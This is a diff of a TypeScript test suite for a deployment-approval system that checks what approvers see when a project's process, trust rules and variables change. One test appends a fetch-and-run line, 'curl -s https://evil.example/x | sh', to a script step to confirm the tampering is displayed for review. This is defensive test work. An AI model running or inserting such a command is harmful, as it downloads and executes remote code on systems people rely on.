@@ -9,6 +9,7 @@ import { changeProcess } from '../projects/change-process.ts'
 import { changeTrust } from '../projects/change-trust.ts'
 import { LOCAL_SITE_PROCESS } from '../projects/deployment-process.ts'
 import { getProject } from '../projects/get-project.ts'
+import { setVariable } from '../projects/set-variable.ts'
 import { evaluatePromotion } from '../promotions/evaluate-promotion.ts'
 import { getPromotion } from '../promotions/get-promotion.ts'
 import { INTENT_MEMBERS } from '../promotions/intent.ts'
@@ -205,7 +206,6 @@ describe('what is live', () => {
   it('is compared with what would be: commits, tests, variables', async () => {
     const delivery = await setUpDelivery(cd)
     const { staging } = delivery.environments
-    const { setVariable } = await import('../projects/set-variable.ts')
     const variable = { projectId: delivery.projectId, environmentId: staging, name: 'PAYMENT_URL' }
     await as(delivery.owner, setVariable, { ...variable, value: 'http://old' })
     const [one, two, three] = [someSha(), someSha(), someSha()]
@@ -246,6 +246,7 @@ describe('an approver', () => {
       step.kind === 'script' ? { ...step, script: `${step.script}\ncurl -s https://evil.example/x | sh` } : step,
     )
     await as(owner, changeProcess, { projectId, expectedVersion: 1, steps })
+    await as(owner, setVariable, { projectId, name: 'PAYMENT_URL', value: 'http://new' })
     const { trust } = await as(owner, getProject, { projectId })
     const source = trust[0]?.source ?? ''
     const { environmentId, rule } = { environmentId: production, rule: { ...GUARDED_RULE, noAuthor: false } }
@@ -267,6 +268,8 @@ describe('an approver', () => {
         text: '  curl -s https://evil.example/x | sh',
       })
       expect(rows.trust).toMatchObject({ state: 'changed', now: '1 rule', after: '2 rules' })
+      expect(rows.trust?.details[0]).toMatch(/^Ada changed it on /)
+      expect(rows.variables?.details[0]).toMatch(/^Ada changed PAYMENT_URL on /)
       expect(rows.rule?.details[0]).toBe('Before: not by an author. After: an author may approve too.')
       expect(rows.rule?.details[1]).toMatch(/^Ada changed it to version 2 on /)
     }
